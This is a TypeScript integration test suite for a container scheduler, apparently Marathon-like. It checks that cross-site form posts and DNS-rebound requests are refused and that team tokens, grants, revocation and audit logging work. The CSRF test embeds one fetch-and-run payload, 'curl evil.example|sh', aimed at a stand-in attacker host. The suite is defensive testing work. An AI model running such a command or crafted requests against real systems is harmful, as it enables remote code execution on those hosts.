import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, rmSync } from 'node:fs';
import { hostname } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { request } from 'undici';
import { stopParts, type PartProcess } from '../../src/cli/child-process.ts';
import { SseStream, type Json } from '../support/events-stream.ts';
import { freePort, startPart, tempDir } from '../support/parts.ts';
import { agentCall, commandStream, standInRegistration } from '../support/stand-in-agent.ts';
import { waitFor } from '../support/wait.ts';

const dir = tempDir('corral-auth-surfaces-');
const running: PartProcess[] = [];
const aborts: AbortController[] = [];

after(async () => {
  for (const abort of aborts) abort.abort();
  await stopParts(running, 5000);
  rmSync(dir, { recursive: true, force: true });
});

interface Answer { status: number; json: Json }
interface CallOptions { credentials?: string; headers?: Record<string, string>; body?: string }

/** One raw call: the test says every header (content type and Origin are what is tested). */
function caller(base: string) {
  return async (method: string, path: string, options: CallOptions = {}): Promise<Answer> => {
    const headers = { ...options.headers, ...(options.credentials === undefined ? {} : { authorization: options.credentials }) };
    const response = await request(`${base}${path}`, { method: method as 'GET', headers, ...(options.body === undefined ? {} : { body: options.body }) });
    const text = await response.body.text();
    return { status: response.statusCode, json: text.startsWith('{') || text.startsWith('[') ? (JSON.parse(text) as Json) : { text } };
  };
}

const JSON_TYPE = { 'content-type': 'application/json' };
const EVIL = 'http://evil.example';
const app = (id: string, extra: Json = {}): Json => ({ id, cmd: 'sleep 1000', cpus: 0.1, mem: 16, instances: 0, ...extra });

async function startScheduler(name: string, extra: string[] = []): Promise<{ base: string; dataDir: string; port: number }> {
  const port = await freePort();
  const logDir = join(dir, name);
  mkdirSync(logDir);
  const dataDir = join(logDir, 'data');
  const scheduler = await startPart('scheduler', ['scheduler', '--listen', `127.0.0.1:${port}`, '--data-dir', dataDir, ...extra], logDir);
  running.push(scheduler);
  return { base: String(scheduler.ready.api), dataDir, port };
}

test('browser safety: a cross-site form post stores nothing; same-origin JSON and bodiless writes work', { timeout: 60_000 }, async () => {
  const { base, port } = await startScheduler('csrf');
  const call = caller(base);
  const own = `http://127.0.0.1:${port}`;
  const form = 'id=%2Fevil&cmd=curl+evil.example%7Csh&cpus=1&mem=32&instances=1';

  for (const type of ['application/x-www-form-urlencoded', 'text/plain', 'multipart/form-data; boundary=x']) {
    const crossSite = await call('POST', '/v2/apps', { headers: { 'content-type': type, origin: EVIL }, body: form });
    assert.equal(crossSite.status, 403, `cross-site ${type}`);
    assert.match(String(crossSite.json.message), /Origin http:\/\/evil\.example .*cross-site requests are refused/);
    const noOrigin = await call('POST', '/v2/apps', { headers: { 'content-type': type }, body: JSON.stringify(app('/evil')) });
    assert.equal(noOrigin.status, 415, `${type} without Origin (an old browser) is still no JSON`);
    assert.match(String(noOrigin.json.message), /Content-Type: application\/json/);
  }
  assert.equal((await call('POST', '/v2/apps', { body: JSON.stringify(app('/evil')) })).status, 415, 'a body without a type (fetch of a Blob)');
  assert.equal((await call('POST', '/v2/apps', { headers: { ...JSON_TYPE, origin: EVIL }, body: JSON.stringify(app('/evil')) })).status, 403);
  assert.equal((await call('POST', '/v2/apps', { headers: { ...JSON_TYPE, origin: 'null' }, body: JSON.stringify(app('/evil')) })).status, 403, 'a sandboxed frame');
  assert.deepEqual((await call('GET', '/v2/apps')).json.apps, [], 'nothing was stored');

  assert.equal((await call('POST', '/v2/apps', { headers: { ...JSON_TYPE, origin: own }, body: JSON.stringify(app('/web')) })).status, 201, 'same-origin JSON');
  assert.equal((await call('POST', '/v2/apps', { headers: { 'content-type': 'application/json; charset=utf-8' }, body: JSON.stringify(app('/web2')) })).status, 201);
  assert.equal((await call('POST', '/v2/apps/web/restart?force=true')).status, 200, 'a bodiless write needs no content type');
  assert.equal((await call('POST', '/v2/apps/web/restart?force=true', { headers: { origin: EVIL } })).status, 403, 'a cross-site bodiless write');
  assert.equal((await call('DELETE', '/v2/apps/web2')).status, 200);

  assert.equal((await call('GET', '/v2/apps', { headers: { origin: EVIL } })).status, 403, 'a cross-site read');
  assert.equal((await call('GET', '/v2/events', { headers: { origin: EVIL, accept: 'text/event-stream' } })).status, 403, 'a cross-site event stream');
  assert.equal((await call('GET', '/v2/apps', { headers: { origin: own } })).status, 200);
});

test('DNS rebinding: a scheduler on loopback answers only its own names; --allowed-hosts adds some', { timeout: 60_000 }, async () => {
  const { base, port } = await startScheduler('rebinding', ['--allowed-hosts', 'corral.example']);
  const call = caller(base);
  // A page on evil.example:PORT whose name now resolves to 127.0.0.1: same-origin by Origin and Host.
  const rebound = { host: `evil.example:${port}`, origin: `http://evil.example:${port}` };
  const write = await call('POST', '/v2/apps', { headers: { ...JSON_TYPE, ...rebound }, body: JSON.stringify(app('/rebound')) });
  assert.equal(write.status, 403);
  assert.match(String(write.json.message), /Host evil\.example:\d+ is not a name this scheduler answers to .*--allowed-hosts/);
  assert.equal((await call('GET', '/v2/apps', { headers: rebound })).status, 403, 'a rebound read');
  assert.equal((await call('GET', '/v2/apps', { headers: { host: `evil.example:${port}` } })).status, 403, 'a rebound read without Origin (a GET sends none)');
  assert.equal((await call('POST', '/corral/v1/agents/register', { headers: { ...JSON_TYPE, ...rebound }, body: JSON.stringify(standInRegistration('rebound', '127.0.0.1')) })).status, 403, 'nor may it join as an agent');

  for (const host of [`127.0.0.1:${port}`, `localhost:${port}`, `[::1]:${port}`, `${hostname()}:${port}`, `corral.example:${port}`, 'api.corral.localhost']) {
    assert.equal((await call('GET', '/v2/apps', { headers: { host } })).status, 200, host);
  }
  const own = `http://localhost:${port}`;
  assert.equal((await call('POST', '/v2/apps', { headers: { ...JSON_TYPE, host: `localhost:${port}`, origin: own }, body: JSON.stringify(app('/web')) })).status, 201, 'a page served by the scheduler\'s own name');
  assert.deepEqual(((await call('GET', '/v2/apps')).json.apps as Json[]).map((a) => a.id), ['/web'], 'the rebound write stored nothing');
});

test('--auth: teams see only their deployments, queue, master state and discovery tasks; PUT asks create; removals; lapsed credentials end event streams', { timeout: 180_000 }, async () => {
  const { base, dataDir } = await startScheduler('auth', ['--auth', '--allowed-origins', 'https://ui.example.com']);
  const call = caller(base);
  const admin = `Bearer ${readFileSync(join(dataDir, 'admin.token'), 'utf8').trim()}`;
  const as = (credentials: string) => ({
    get: (path: string) => call('GET', path, { credentials }),
    send: (method: string, path: string, body?: unknown) => call(method, path, { credentials, ...(body === undefined ? {} : { headers: JSON_TYPE, body: JSON.stringify(body) }) }),
  });
  const root = as(admin);

  // Browser safety holds with credentials too (a browser may hold Basic credentials for the scheduler).
  const formWithToken = await call('POST', '/v2/apps', { credentials: admin, headers: { 'content-type': 'text/plain', origin: EVIL }, body: '{"id":"/evil","cmd":"x"}' });
  assert.equal(formWithToken.status, 403);
  assert.equal((await call('POST', '/v2/apps', { credentials: admin, headers: { 'content-type': 'text/plain', origin: 'https://ui.example.com' }, body: '{}' })).status, 415);
  assert.equal((await call('POST', '/v2/apps', { credentials: admin, headers: { ...JSON_TYPE, origin: 'https://ui.example.com' }, body: JSON.stringify(app('/allowed-ui')) })).status, 201, '--allowed-origins');

  const tokenOf = async (identity: string, expiresInSeconds?: number): Promise<{ id: string; token: string }> => {
    const issued = await root.send('POST', '/v2/auth/tokens', { identity, ...(expiresInSeconds === undefined ? {} : { expiresInSeconds }) });
    assert.equal(issued.status, 201);
    return issued.json as { id: string; token: string };
  };
  const team = async (id: string, actions: string[], path: string): Promise<ReturnType<typeof as>> => {
    assert.equal((await root.send('POST', '/v2/auth/identities', { id })).status, 201);
    assert.equal((await root.send('POST', '/v2/auth/grants', { identity: id, actions, path })).status, 201);
    return as(`Bearer ${(await tokenOf(id)).token}`);
  };
  const crud = ['create', 'read', 'update', 'delete'];
  const teamA = await team('team-a', crud, '/team-a');
  const teamB = await team('team-b', crud, '/team-b');
  const updater = await team('updater', ['read', 'update'], '/team-a');

  // One stand-in agent takes the small apps; the big ones wait in the queue with their deployments.
  const registered = await agentCall(base, 'POST', '/corral/v1/agents/register', standInRegistration('stand-in', '127.0.0.70'));
  assert.equal(registered.status, 200);
  const abort = new AbortController();
  aborts.push(abort);
  await commandStream(base, String(registered.json.agentId), abort.signal);
  for (const [who, prefix] of [[teamA, '/team-a'], [teamB, '/team-b']] as const) {
    assert.equal((await who.send('POST', '/v2/apps', app(`${prefix}/small`, { instances: 1 }))).status, 201);
    assert.equal((await who.send('POST', '/v2/apps', app(`${prefix}/big`, { instances: 1, cpus: 100 }))).status, 201);
  }
  const masterTasks = async (who: ReturnType<typeof as>): Promise<string[]> => {
    const state = (await who.get('/master/state')).json;
    return (state.frameworks as Json[]).flatMap((f) => (f.tasks as Json[]).map((t) => String(t.name))).sort();
  };
  await waitFor('both small apps to have a task', async () => ((await masterTasks(root)).length === 2 ? true : undefined), 20_000);
  await waitFor('both big apps to wait in the queue', async () => (((await root.get('/v2/queue')).json.queue as Json[]).length === 2 ? true : undefined), 20_000);

  const deployments = async (who: ReturnType<typeof as>): Promise<Json[]> => (await who.get('/v2/deployments')).json as unknown as Json[];
  const appsOf = (list: Json[]): string[] => list.flatMap((d) => d.affectedApps as string[]).sort();
  // The stand-in never reports its tasks running: every deployment waits.
  assert.deepEqual(appsOf(await deployments(teamA)), ['/team-a/big', '/team-a/small']);
  assert.deepEqual(appsOf(await deployments(root)), ['/team-a/big', '/team-a/small', '/team-b/big', '/team-b/small']);
  assert.deepEqual(((await teamA.get('/v2/queue')).json.queue as Json[]).map((e) => e.app.id), ['/team-a/big']);
  assert.deepEqual(await masterTasks(teamA), ['small.team-a']);
  assert.deepEqual(await masterTasks(root), ['small.team-a', 'small.team-b']);
  assert.deepEqual((await teamA.get('/master/state.json')).json.slaves.length, 1, 'agents stay');
  await mesosEndpointsAuthorized(call, { root: root.get, teamA: teamA.get, teamB: teamB.get });
  const discovery = (await teamB.get('/corral/v1/discovery')).json;
  assert.deepEqual([(discovery.apps as Json[]).map((a) => a.id).sort(), (discovery.tasks as Json[]).map((t) => t.appId)], [['/team-b/big', '/team-b/small'], ['/team-b/small']]);
  assert.equal(((await root.get('/corral/v1/discovery')).json.tasks as Json[]).length, 2);

  const [bDeployment] = await deployments(teamB);
  assert.equal((await teamA.send('DELETE', `/v2/deployments/${String(bDeployment?.id)}?force=true`)).status, 403, "team A may not stop team B's deployment");
  assert.equal((await teamB.send('DELETE', `/v2/deployments/${String(bDeployment?.id)}?force=true`)).status, 202);

  // PUT asks create when it creates.
  assert.equal((await teamA.send('POST', '/v2/apps', app('/team-a/idle'))).status, 201);
  const refused = await updater.send('PUT', '/v2/apps/team-a/new', app('/team-a/new'));
  assert.equal(refused.status, 403);
  assert.match(String(refused.json.message), /may not create \/team-a\/new/);
  assert.equal((await updater.send('PUT', '/v2/apps/team-a/idle?force=true', { cmd: 'sleep 2000' })).status, 200, 'update is enough to change an app');
  assert.equal((await updater.send('PUT', '/v2/apps', [{ id: '/team-a/idle', cmd: 'sleep 3000' }, app('/team-a/new')])).status, 403, 'a batch that creates asks create');
  assert.equal((await updater.send('PUT', '/v2/apps?force=true', [{ id: '/team-a/idle', cmd: 'sleep 3000' }])).status, 200);
  assert.equal((await teamA.send('PUT', '/v2/apps/team-a/new', app('/team-a/new'))).status, 201, 'create allows it');
  assert.equal((await teamA.send('PUT', '/v2/apps', [app('/team-a/new2')])).status, 200);

  // Revoking a token, removing an identity, and expiry each end a stream opened with it.
  const c = await tokenOf('team-a');
  const streamA = await SseStream.open(base, { headers: { authorization: `Bearer ${c.token}` } });
  const streamB = await SseStream.open(base, { headers: { authorization: `Bearer ${(await tokenOf('team-b')).token}` } });
  const short = await tokenOf('updater', 3);
  const streamShort = await SseStream.open(base, { headers: { authorization: `Bearer ${short.token}` } });
  const streamAdmin = await SseStream.open(base, { headers: { authorization: admin } });
  const ended = (stream: SseStream, what: string, timeoutMs = 10_000): Promise<true> => waitFor(what, () => (stream.endedByServer ? true : undefined), timeoutMs);

  assert.equal((await root.send('DELETE', `/v2/auth/tokens/${c.id}`)).status, 200);
  await ended(streamA, 'the stream of the revoked token to end');
  assert.equal((await call('GET', '/v2/events', { credentials: `Bearer ${c.token}` })).status, 401, 'and its reconnect is refused');

  assert.equal((await teamA.send('DELETE', '/v2/auth/identities/team-b')).status, 403, 'admin only');
  const removed = await root.send('DELETE', '/v2/auth/identities/team-b');
  assert.equal(removed.status, 200);
  assert.equal((removed.json.revokedTokens as string[]).length, 2);
  assert.deepEqual(removed.json.removedGrants, ['team-b /team-b']);
  await ended(streamB, 'the stream of the removed identity to end');
  assert.equal((await teamB.get('/v2/apps')).status, 401, "the removed identity's tokens let nobody in");
  assert.ok(!((await root.get('/v2/auth/identities')).json.identities as Json[]).some((i) => i.id === 'team-b'));
  assert.ok(!((await root.get('/v2/auth/grants')).json.grants as Json[]).some((g) => g.identity === 'team-b'));
  assert.equal((await root.send('DELETE', '/v2/auth/identities/team-b')).status, 404);
  assert.equal((await root.send('DELETE', '/v2/auth/identities/admin')).status, 403, 'the admin may not remove itself');

  await ended(streamShort, 'the stream of the expired token to end', 20_000);
  assert.equal(streamAdmin.endedByServer, false, 'streams whose credentials hold stay open');

  assert.equal((await teamA.get('/v2/apps/team-a/idle')).status, 200);
  assert.equal((await root.send('DELETE', `/v2/auth/grants/${encodeURIComponent('team-a /team-a')}`)).status, 200);
  assert.equal((await teamA.get('/v2/apps/team-a/idle')).status, 403, 'the removed grant allows nothing');
  assert.equal((await root.send('DELETE', `/v2/auth/grants/${encodeURIComponent('team-a /team-a')}`)).status, 404);

  // The log reaches the file a moment after the answer: wait for the last line asked for.
  const auditLines = (): Json[] => readFileSync(join(dir, 'auth', 'scheduler.log'), 'utf8').split('\n').filter((l) => l.includes('"component":"audit"')).map((l) => JSON.parse(l) as Json);
  const audit = await waitFor('grant removal to be audited', () => {
    const lines = auditLines();
    return lines.some((l) => l.method === 'DELETE' && String(l.path).startsWith('/v2/auth/grants/') && l.result === 200) ? lines : undefined;
  });
  assert.ok(audit.some((l) => l.msg === 'identity removed' && l.removed === 'team-b'));
  assert.ok(audit.some((l) => l.msg === 'event stream closed: its credential lapsed' && /revoked/.test(String(l.reason))));
  await Promise.all([streamA, streamB, streamShort, streamAdmin].map((s) => s.close()));
});

/**
 * The Mesos endpoints under --auth: task lists trimmed to the readable tasks, cluster-wide ones
 * need read on / (a team's token is refused), /health and /version open, /redirect needs an identity.
 */
async function mesosEndpointsAuthorized(call: ReturnType<typeof caller>, as: Record<'root' | 'teamA' | 'teamB', (path: string) => Promise<Answer>>): Promise<void> {
  const names = (answer: Answer): string[] => (answer.json.tasks as Json[]).map((t) => String(t.name)).sort();
  const frameworkTasks = (answer: Answer): string[] => (answer.json.frameworks as Json[]).flatMap((f) => (f.tasks as Json[]).map((t) => String(t.name))).sort();
  for (const path of ['/master/tasks', '/tasks']) {
    assert.deepEqual(names(await as.teamA(path)), ['small.team-a'], path);
    assert.deepEqual(names(await as.root(path)), ['small.team-a', 'small.team-b'], path);
  }
  // Paged after filtering, as Mesos: team-b's one task fills its page of one, whatever sorts first.
  for (const order of ['asc', 'des']) assert.deepEqual(names(await as.teamB(`/master/tasks?limit=1&order=${order}`)), ['small.team-b'], order);
  for (const path of ['/state', '/state.json', '/master/frameworks', '/frameworks']) {
    assert.deepEqual(frameworkTasks(await as.teamA(path)), ['small.team-a'], path);
    assert.deepEqual(frameworkTasks(await as.root(path)), ['small.team-a', 'small.team-b'], path);
  }
  for (const path of ['/master/slaves', '/slaves', '/master/roles', '/master/state-summary', '/state-summary', '/flags', '/master/flags', '/metrics/snapshot']) {
    assert.equal((await as.teamA(path)).status, 403, `${path}: a team cannot read the cluster's`);
    assert.equal((await as.root(path)).status, 200, path);
    assert.equal((await call('GET', path)).status, 401, `${path} without credentials`);
  }
  assert.equal((await as.root('/flags')).json.flags.auth, 'true');
  for (const path of ['/health', '/master/health', '/version']) assert.equal((await call('GET', path)).status, 200, `${path} is open`);
  for (const path of ['/redirect', '/master/redirect']) {
    assert.equal((await call('GET', path)).status, 401, path);
    assert.equal((await as.teamA(path)).status, 307, path);
  }
}
